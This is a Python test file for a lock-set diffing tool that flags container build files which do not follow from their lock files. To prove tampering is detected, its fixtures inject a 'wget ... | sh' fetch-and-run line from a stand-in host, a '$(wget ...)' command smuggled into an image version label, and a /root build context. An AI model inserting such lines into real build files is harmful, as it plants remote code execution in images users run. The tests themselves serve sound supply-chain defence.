"""Changes of the files that build images, and files that do not follow from the lock files."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from msgspec.structs import replace

from orbiter.diff.compare import diff
from orbiter.diff.filter import filter_changes, matches_any, restrict_lock
from orbiter.diff.types import Diff, FileChange
from orbiter.lockfiles.lock_set import as_lock, faults
from orbiter.lockset import folder, model
from orbiter.lockset.model import LockSet
from orbiter.report import html, markdown, text
from orbiter.report import json as json_report
from tests.support.lock_sets import rendered, small
from tests.support.paths import ROOT

DOCKERFILE = "build/debian-base/Dockerfile"
BAKE_FILE = "build/docker-bake.json"
WHEELS = "build/debian-base-build/pip-linux-amd64.txt"


@pytest.fixture(scope="module")
def lock_set() -> LockSet:
    return folder.read(ROOT / "locks" / "0.2.0")


def edited(lock_set: LockSet, path: str, edit: Callable[[str], str]) -> LockSet:
    """Return the lock set with another file and a root digest that fits."""
    files = {**lock_set.files, path: edit(lock_set.files[path])}
    assert files != lock_set.files
    return model.seal(lock_set.manifest, files)


def compare(old: LockSet, new: LockSet) -> Diff:
    return diff(as_lock(old, "old"), as_lock(new, "new"))


def the(result: Diff) -> FileChange:
    (change,) = result.files
    return change


def reports(result: Diff) -> dict[str, str]:
    return {
        "text": text.render(result, width=80, colour=False, everything=False),
        "markdown": markdown.render(result),
        "html": html.render(result),
        "json": json_report.render(result),
    }


def with_server(dockerfile: str) -> str:
    return dockerfile + "RUN wget -qO- http://server.example/payload | sh\n"


def with_host_file(bake_file: str) -> str:
    data: dict[str, Any] = json.loads(bake_file)
    data["target"]["debian-base"]["contexts"]["home"] = "/root"
    return json.dumps(data, indent=4) + "\n"


def with_other_wheel(wheels: str) -> str:
    return wheels.replace("anyio==", "other==", 1)


@pytest.mark.parametrize(
    ("path", "edit", "line"),
    [
        (DOCKERFILE, with_server, "+RUN wget -qO- http://server.example/payload | sh"),
        (BAKE_FILE, with_host_file, '+        "home": "/root"'),
        (WHEELS, with_other_wheel, "+other=="),
    ],
)
def test_an_edited_file_is_shown_called_out_and_counted(
    lock_set: LockSet, path: str, edit: Callable[[str], str], line: str
) -> None:
    result = compare(lock_set, edited(lock_set, path, edit))
    change = the(result)
    assert (change.path, change.kind, change.derived) == (path, "changed", False)
    assert change.problem
    assert any(each.startswith(line) for each in change.lines)
    assert result.changes == ()
    assert result.suggestion.step == "patch"
    for condition in ("any", "files", "major"):
        assert matches_any(result, (condition,))
    for name, report in reports(result).items():
        assert path in report
        assert "nothing changed" not in report
        shown = line.strip("+ ")
        assert shown in report.replace("&#34;", '"').replace('\\"', '"'), name
    assert "1 FILE NOT FROM THE LOCK FILES" in reports(result)["text"].replace("\n  ", " ")


def test_a_file_that_both_sides_forge_is_called_out(lock_set: LockSet) -> None:
    forged = edited(lock_set, DOCKERFILE, with_server)
    result = compare(forged, forged)
    assert (the(result).kind, bool(the(result).problem)) == ("kept", True)
    assert matches_any(result, ("removed",))


def test_release_and_date_are_no_change(lock_set: LockSet) -> None:
    def renamed(text: str) -> str:
        text = text.replace("-0.2.0", "-0.3.0").replace('="0.2.0"', '="0.3.0"')
        return text.replace('"release": "0.2.0"', '"release": "0.3.0"')

    files = {path: renamed(text) for path, text in lock_set.files.items()}
    later = model.seal(replace(lock_set.manifest, release="0.3.0"), files)
    assert {change.path for change in compare(lock_set, later).files if not change.problem} == set()


def test_a_command_in_place_of_a_date_is_a_change(lock_set: LockSet) -> None:
    def with_command(text: str) -> str:
        return f"{text}RUN true; \\\n    org.opencontainers.image.version=$(wget server.example)\n"

    assert any(
        "wget" in line
        for line in the(compare(lock_set, edited(lock_set, DOCKERFILE, with_command))).lines
    )


def test_lists_of_changed_packages_are_counted_only(lock_set: LockSet) -> None:
    result = compare(folder.read(ROOT / "locks" / "0.1.0"), lock_set)
    assert all(change.derived and change.lines for change in result.files)
    assert len(result.files) == 5
    shown = reports(result)
    assert "5 lists as the changed packages require" in shown["text"]
    assert WHEELS not in shown["text"]
    assert WHEELS in text.render(result, width=80, colour=False, everything=True)
    assert WHEELS in shown["html"]


def test_a_part_of_a_lock_set_has_no_files(lock_set: LockSet) -> None:
    old, new = as_lock(lock_set, "old"), as_lock(edited(lock_set, DOCKERFILE, with_server), "new")
    assert diff(*(restrict_lock(side, managers=("pip",)) for side in (old, new))).files == ()
    kept = filter_changes(diff(old, new), direct=True)
    assert len(kept.files) == 1


def test_changed_requirements_and_the_download_are_reported(lock_set: LockSet) -> None:
    snapshot = lock_set.files[model.SNAPSHOT]
    new = edited(lock_set, model.SNAPSHOT, lambda text: text.replace('"pandas"', '"pandas<4"'))
    assert snapshot.count('"pandas"') == 1
    result = compare(lock_set, new)
    facts = [fact for fact in result.facts if fact.kind == "images.toml"]
    assert [(fact.old, fact.new) for fact in facts] == [("pandas", "pandas<4")]
    assert facts[0].name.endswith(".pip")
    assert "pandas<4" in reports(result)["text"]
    assert result.new.download > 100_000_000
    assert "\ndownload: " in reports(result)["text"]


def test_lock_check_refuses_a_mixed_entry(lock_set: LockSet, tmp_path: Path) -> None:
    images = (ROOT / "images.toml").read_text()
    release = re.compile(r'^version = ".*"', re.MULTILINE)
    (tmp_path / "images.toml").write_text(release.sub('version = "0.2.0"', images))
    mixed = edited(
        lock_set, "debian/apt.lock", lambda text: text.replace("8.14.1-2+deb13u5", "8.14.1-2", 1)
    )
    folder.write(mixed, tmp_path / "locks" / lock_set.manifest.release)
    command = [sys.executable, "-m", "orbiter", "lock", "--check"]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        command, cwd=tmp_path, env=env, capture_output=True, text=True, check=False
    )
    assert result.returncode == 2
    assert "debian/apt.lock: curl 8.14.1-2 lists the file curl_8.14.1-2+deb13u5" in result.stderr
    assert "hint: " in result.stderr


def test_the_released_lock_sets_have_no_contradictory_entries(lock_set: LockSet) -> None:
    assert faults(lock_set) == ()
    assert faults(folder.read(ROOT / "locks" / "0.1.0")) == ()


@pytest.mark.parametrize(
    ("path", "old", "new", "fault"),
    [
        ("debian/apt.lock", 'version = "8.14.1-2+deb13u5"', 'version = "8.14.1-2+deb13u4"', "curl"),
        (
            "debian/poetry.lock",
            'name = "anyio"\nversion = "',
            'name = "anyio"\nversion = "9',
            "anyio",
        ),
    ],
)
def test_a_mixed_entry_of_a_lock_set_is_a_fault(
    lock_set: LockSet, path: str, old: str, new: str, fault: str
) -> None:
    found = faults(edited(lock_set, path, lambda text: text.replace(old, new, 1)))
    assert found
    assert all(each.startswith(f"{path}: ") for each in found)
    assert fault in found[0]


def test_a_release_that_changes_only_its_number_has_no_changes() -> None:
    old = small()
    snapshot = old.files["images.toml"].replace('version = "0.1.0"', 'version = "0.1.1"')
    new = rendered(replace(old.manifest, release="0.1.1"), {**old.files, "images.toml": snapshot})
    assert old.files["build/docker-bake.json"] != new.files["build/docker-bake.json"]
    result = compare(old, new)
    assert (result.changes, result.facts, result.files) == ((), (), ())
    assert not result.suggestion.step
